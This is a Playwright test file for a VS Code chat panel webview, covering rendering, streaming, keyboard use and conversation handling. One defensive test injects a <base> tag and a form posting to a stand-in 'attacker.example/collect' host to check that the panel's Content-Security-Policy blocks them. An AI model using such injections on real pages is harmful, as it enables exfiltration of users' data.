// The chat panel (webview/main.ts, bundled as for the extension) in real headless Chromium, under the
// view's Content-Security-Policy, with an acquireVsCodeApi shim that records what the page posts
// (structured-cloned, as the real one does) and lets the test send host messages.
import * as assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { Conversation, HostMessage } from '../../src/chat/protocol';
import { clearPosted, posted, send, stateMessages, waitPosted, usePanelPage, type PanelState } from './panel-support';

const ANSWER = '## Result\n\nUse **add**:\n\n```ts\nconst sum = add(1, 2);\n```\n\nDone.';

function conversation(over: Partial<Conversation> = {}): Conversation {
  return {
    id: 'c-one',
    title: 'First chat',
    createdAt: 1,
    updatedAt: 2,
    turns: [
      { id: 't1', role: 'user', content: 'How do I add?\nTwo lines.', createdAt: 1 },
      { id: 't2', role: 'assistant', content: ANSWER, createdAt: 2, status: 'done', model: 'kimi-k2', usage: { prompt: 1200, cached: 1000, completion: 34 } },
    ],
    ...over,
  };
}

function state(over: Partial<PanelState> = {}): HostMessage[] {
  return stateMessages({
    conversations: [
      { id: 'c-one', title: 'First chat', updatedAt: 2 },
      { id: 'c-two', title: 'Second chat', updatedAt: 1 },
    ],
    conversation: conversation(),
    models: [{ id: 'kimi-k2', contextLength: 131072 }, { id: 'moonshot-v1-8k', contextLength: 8192 }],
    model: 'kimi-k2',
    streaming: false,
    hasApiKey: true,
    ...over,
  });
}

describe('webview: chat panel (headless Chromium)', function () {
  this.timeout(60_000);
  const panel = usePanelPage({ strict: true });
  let page: Page;

  beforeEach(async () => {
    page = panel().page;
    await send(page, state());
    await page.locator('article.turn-assistant .code-block').waitFor();
  });

  it('renders the state: conversations, turns, usage, models, codicon font', async () => {
    const options = await page.locator('#conversation-picker vscode-option').allTextContents();
    assert.deepEqual(options.map((s) => s.trim()), ['First chat', 'Second chat']);
    assert.equal(await page.locator('#conversation-picker').evaluate((el) => (el as HTMLElement & { value: string }).value), 'c-one');
    assert.equal(await page.locator('article.turn-user .turn-body').textContent(), 'How do I add?\nTwo lines.');
    assert.equal(await page.locator('article.turn-assistant h2').textContent(), 'Result');
    assert.equal(await page.locator('article.turn-assistant pre code.language-ts').textContent(), 'const sum = add(1, 2);');
    assert.equal(await page.locator('article.turn-assistant .hljs-keyword').first().textContent(), 'const');
    assert.match((await page.locator('.turn-usage').textContent()) ?? '', /1,200 prompt · 1,000 cached · 34 completion tokens/);
    const models = await page.locator('#model-picker vscode-option').allTextContents();
    assert.deepEqual(models.map((s) => s.trim()), ['kimi-k2', 'moonshot-v1-8k']);
    assert.equal(await page.locator('#transcript').getAttribute('role'), 'log');
    // Filling the pickers from the state must not look like the user picking something.
    await send(page, state({ model: 'moonshot-v1-8k' }));
    await page.waitForTimeout(200);
    assert.equal(await page.locator('#model-picker').evaluate((el) => (el as HTMLElement & { value: string }).value), 'moonshot-v1-8k');
    assert.deepEqual(await posted(page), [{ type: 'ready' }]);
    // The codicon font comes from the bundle (the CSP allows fonts from the view's origin only).
    await page.waitForFunction(() => document.fonts.check('16px codicon'));
    assert.ok(await page.evaluate(() => [...document.fonts].some((f) => f.family.includes('codicon') && f.status === 'loaded')));
  });

  it('the CSP refuses <base>, form submission, inline styles and data: images, and the panel needs none', async () => {
    // The panel rendered above without a violation (afterEach); now try what an injection would use.
    const violations = await page.evaluate(async () => {
      const w = window as unknown as { __csp: string[] };
      w.__csp.length = 0;
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
      const form = document.createElement('form');
      form.action = 'https://attacker.example/collect';
      form.method = 'post';
      document.body.append(form);
      form.requestSubmit();
      const style = document.createElement('style');
      style.textContent = 'body { background: red; }';
      document.head.append(style);
      const img = document.createElement('img');
      img.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
      document.body.append(img);
      await new Promise((r) => setTimeout(r, 300));
      for (const el of [base, form, style, img]) el.remove();
      // Reports can arrive late (and <base> is reported again as URLs resolve): wait, then take all.
      await new Promise((r) => setTimeout(r, 300));
      const found = [...new Set(w.__csp.map((v) => v.split(' ')[0]))].sort();
      w.__csp.length = 0;
      return found;
    });
    assert.deepEqual(violations, ['base-uri', 'form-action', 'img-src', 'style-src-elem']);
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor === 'rgb(255, 0, 0)'), false);
  });

  it('Enter sends, Shift+Enter adds a line, and the box empties', async () => {
    await clearPosted(page);
    const box = page.locator('#prompt');
    // The host asks for focus (e.g. after Explain Selection): typing then goes to the question box.
    await page.locator('#transcript').focus();
    await send(page, { type: 'focusInput' });
    await page.waitForFunction(() => document.activeElement?.id === 'prompt');
    await page.keyboard.type('first line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second line');
    assert.equal(await box.inputValue(), 'first line\nsecond line');
    assert.equal((await posted(page)).filter((m) => m.type === 'send').length, 0, 'Shift+Enter does not send');
    await page.keyboard.press('Enter');
    const sent = await waitPosted(page, (m) => m.type === 'send', 'send');
    assert.deepEqual(sent, { type: 'send', text: 'first line\nsecond line' });
    assert.equal(await box.inputValue(), '');
    // An empty box sends nothing.
    await page.keyboard.press('Enter');
    await page.waitForTimeout(100);
    assert.equal((await posted(page)).filter((m) => m.type === 'send').length, 1);
  });

  it('streams deltas through the renderer, Esc posts stop, the end shows status and usage', async () => {
    await send(page, {
      type: 'turnStart',
      conversationId: 'c-one',
      user: { id: 't3', role: 'user', content: 'More please', createdAt: 3 },
      assistant: { id: 't4', role: 'assistant', content: '', createdAt: 3, status: 'streaming', model: 'kimi-k2' },
    });
    const answer = page.locator('article[data-turn-id="t4"]');
    await answer.waitFor();
    assert.equal(await answer.getAttribute('aria-busy'), 'true');
    assert.match((await page.locator('#send').textContent()) ?? '', /Stop/);
    const parts = ['# Stre', 'amed\n\nSome *ital', 'ic* text.\n\n```py', 'thon\nprint("hi")\n', '```\n\nTail'];
    for (const text of parts) await send(page, { type: 'delta', conversationId: 'c-one', turnId: 't4', text });
    await answer.locator('h1').filter({ hasText: 'Streamed' }).waitFor();
    await answer.locator('pre code.language-python').filter({ hasText: 'print("hi")' }).waitFor();
    assert.equal(await answer.locator('em').textContent(), 'ital' + 'ic');
    // Regenerate/Edit are not offered while an answer streams.
    assert.equal(await page.locator('.turn-actions vscode-button').count(), 0);

    await clearPosted(page);
    await page.locator('#prompt').focus();
    await page.keyboard.press('Escape');
    await waitPosted(page, (m) => m.type === 'stop', 'stop after Esc');
    await clearPosted(page);
    await page.locator('#send').click();
    await waitPosted(page, (m) => m.type === 'stop', 'stop after clicking Stop');

    await send(page, {
      type: 'turnEnd',
      conversationId: 'c-one',
      turn: { id: 't4', role: 'assistant', content: parts.join(''), createdAt: 3, status: 'stopped', model: 'kimi-k2', usage: { prompt: 50, cached: 0, completion: 12 } },
    });
    await answer.locator('.turn-status.stopped').waitFor();
    // "Stopped" reads as stopped: not the hollow square of debug-stop, which looks like a checkbox.
    assert.deepEqual(await answer.locator('.turn-status.stopped .codicon').evaluate((el) => [...el.classList]), ['codicon', 'codicon-circle-slash']);
    assert.equal(await answer.getAttribute('aria-busy'), null);
    assert.match((await answer.locator('.turn-usage').textContent()) ?? '', /50 prompt · 0 cached · 12 completion/);
    assert.equal(await answer.locator('p').last().textContent(), 'Tail');
    assert.match((await page.locator('#send').textContent()) ?? '', /Send/);
  });

  it('code-block buttons are reachable by keyboard and post the block\'s code', async () => {
    await clearPosted(page);
    await page.locator('#prompt').focus();
    // Walk backwards from the question box with Shift+Tab until a code-block button has focus.
    const seen: string[] = [];
    for (let i = 0; i < 30; i++) {
      await page.keyboard.press('Shift+Tab');
      const label = await page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.tagName ?? '');
      seen.push(label);
      if (label === 'Copy') break;
    }
    assert.equal(seen.at(-1), 'Copy', `focus order: ${seen.join(' → ')}`);
    await page.keyboard.press('Enter');
    const copy = await waitPosted(page, (m) => m.type === 'code', 'copy');
    assert.deepEqual(copy, { type: 'code', action: 'copy', code: 'const sum = add(1, 2);', language: 'ts' });
    await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Insert at Cursor');
    await page.keyboard.press('Space');
    await waitPosted(page, (m) => m.type === 'code' && m.action === 'insert', 'insert');
    await page.locator('button[aria-label="Replace Selection"]').click();
    const replace = await waitPosted(page, (m) => m.type === 'code' && m.action === 'replace', 'replace');
    assert.equal(replace.type === 'code' && replace.code, 'const sum = add(1, 2);');
  });

  it('Regenerate and Edit & resend the last question', async () => {
    await clearPosted(page);
    await page.locator('article.turn-assistant vscode-button[aria-label="Regenerate this answer"]').click();
    await waitPosted(page, (m) => m.type === 'regenerate', 'regenerate');
    await page.locator('article.turn-user vscode-button[aria-label="Edit and resend this question"]').click();
    const box = page.locator('#prompt');
    assert.equal(await box.inputValue(), 'How do I add?\nTwo lines.');
    assert.equal(await page.locator('.edit-banner').isVisible(), true);
    await box.focus();
    await page.keyboard.press('End');
    await page.keyboard.type(' Three.');
    await page.keyboard.press('Enter');
    const edit = await waitPosted(page, (m) => m.type === 'editLast', 'editLast');
    assert.deepEqual(edit, { type: 'editLast', text: 'How do I add?\nTwo lines. Three.' });
    assert.equal((await posted(page)).filter((m) => m.type === 'send').length, 0);
    assert.equal(await page.locator('.edit-banner').isVisible(), false);
  });

  it('errors show the message and next-step buttons that post their action', async () => {
    await send(page, state({
      conversation: conversation({
        turns: [
          { id: 'u', role: 'user', content: 'hi', createdAt: 1 },
          { id: 'a', role: 'assistant', content: '', createdAt: 2, status: 'error', error: { message: 'Invalid Authentication (401)', actions: ['setApiKey', 'retry'] } },
        ],
      }),
      hasApiKey: false,
    }));
    const alert = page.locator('article[data-turn-id="a"] [role="alert"]');
    await alert.waitFor();
    assert.match((await alert.textContent()) ?? '', /Invalid Authentication \(401\)/);
    assert.equal(await page.locator('.no-key').isVisible(), true);
    await clearPosted(page);
    await alert.locator('vscode-button[data-action="retry"]').click();
    await alert.locator('vscode-button[data-action="setApiKey"]').click();
    await waitPosted(page, (m) => m.type === 'action' && m.action === 'retry', 'retry');
    await waitPosted(page, (m) => m.type === 'action' && m.action === 'setApiKey', 'setApiKey');
  });

  it('conversations: switch, new, rename, delete; cache chip detaches', async () => {
    await clearPosted(page);
    await page.locator('#conversation-picker').click();
    await page.locator('#conversation-picker vscode-option', { hasText: 'Second chat' }).click();
    await waitPosted(page, (m) => m.type === 'switchConversation' && m.id === 'c-two', 'switch');
    await send(page, state({ conversation: conversation({ id: 'c-two', title: 'Second chat', turns: [], draft: 'draft of two', cache: { kind: 'cache', cacheId: 'cache-abc', label: 'Project docs' } }) }));
    await page.locator('.welcome').waitFor();
    assert.equal(await page.locator('#prompt').inputValue(), 'draft of two');
    assert.match((await page.locator('.cache-chip').textContent()) ?? '', /cache: Project docs/);

    await page.locator('.cache-chip vscode-button').click();
    await waitPosted(page, (m) => m.type === 'detachCache', 'detachCache');
    await page.locator('vscode-button[aria-label="New Conversation"]').click();
    await waitPosted(page, (m) => m.type === 'newConversation', 'new');

    await page.locator('vscode-button[aria-label="Rename Conversation"]').click();
    const field = page.locator('vscode-text-field.rename-field input');
    await field.waitFor();
    await field.fill('Renamed chat');
    await field.press('Enter');
    const rename = await waitPosted(page, (m) => m.type === 'renameConversation', 'rename');
    assert.deepEqual(rename, { type: 'renameConversation', id: 'c-two', title: 'Renamed chat' });

    await page.locator('vscode-button[aria-label="Delete Conversation"]').click();
    await page.locator('.confirm-bar').waitFor();
    assert.equal((await posted(page)).filter((m) => m.type === 'deleteConversation').length, 0, 'asks before deleting');
    await page.locator('.confirm-bar .confirm-delete').click();
    await waitPosted(page, (m) => m.type === 'deleteConversation' && m.id === 'c-two', 'delete');
  });

  it('model picker posts selectModel; the draft is posted, counted and survives a reload', async () => {
    await clearPosted(page);
    await page.locator('#model-picker').click();
    await page.locator('#model-picker vscode-option', { hasText: 'moonshot-v1-8k' }).click();
    await waitPosted(page, (m) => m.type === 'selectModel' && m.model === 'moonshot-v1-8k', 'selectModel');

    await page.locator('#prompt').fill('unsent question');
    await waitPosted(page, (m) => m.type === 'draft' && m.text === 'unsent question', 'draft');
    await send(page, { type: 'draftTokens', count: 1234, contextLength: 131072 });
    await page.locator('.draft-tokens', { hasText: '1,234 / 128K tokens' }).waitFor();
    // A local estimate (nothing sent, or counting failed) is marked ≈ and says why on hover.
    await send(page, { type: 'draftTokens', count: 12, estimated: 'Kimi could not count the tokens (offline); this is a local estimate.' });
    await page.locator('.draft-tokens', { hasText: '≈12 tokens' }).waitFor();
    assert.match((await page.locator('.draft-tokens').getAttribute('title')) ?? '', /could not count.*local estimate/);

    await page.reload();
    await waitPosted(page, (m) => m.type === 'ready', 'ready after reload');
    // The host's copy of the draft may lag behind: the view's saved state wins and is sent back.
    await send(page, state({ conversation: conversation({ draft: 'unsent' }) }));
    await page.locator('article.turn-assistant').waitFor();
    assert.equal(await page.locator('#prompt').inputValue(), 'unsent question');
    await waitPosted(page, (m) => m.type === 'draft' && m.text === 'unsent question', 'draft re-sent after reload');
  });

  it('follows the answer only while scrolled to the bottom', async () => {
    await page.setViewportSize({ width: 400, height: 400 });
    await send(page, {
      type: 'turnStart', conversationId: 'c-one',
      user: { id: 'q', role: 'user', content: 'long one', createdAt: 3 },
      assistant: { id: 'r', role: 'assistant', content: '', createdAt: 3, status: 'streaming' },
    });
    const pushLines = async (from: number) => {
      for (let i = from; i < from + 40; i++) await send(page, { type: 'delta', conversationId: 'c-one', turnId: 'r', text: `Line ${i}\n\n` });
      await page.waitForTimeout(100);
    };
    const gap = () => page.locator('#transcript').evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
    await pushLines(0);
    assert.ok((await gap()) < 5, 'at the bottom: follows');
    await page.locator('#transcript').evaluate((el) => (el.scrollTop = 0));
    await page.waitForTimeout(50);
    await pushLines(40);
    assert.equal(await page.locator('#transcript').evaluate((el) => el.scrollTop), 0, 'scrolled up: stays put');
    await page.locator('#transcript').evaluate((el) => (el.scrollTop = el.scrollHeight));
    await page.waitForTimeout(50);
    await pushLines(80);
    assert.ok((await gap()) < 5, 'back at the bottom: follows again');
  });
});
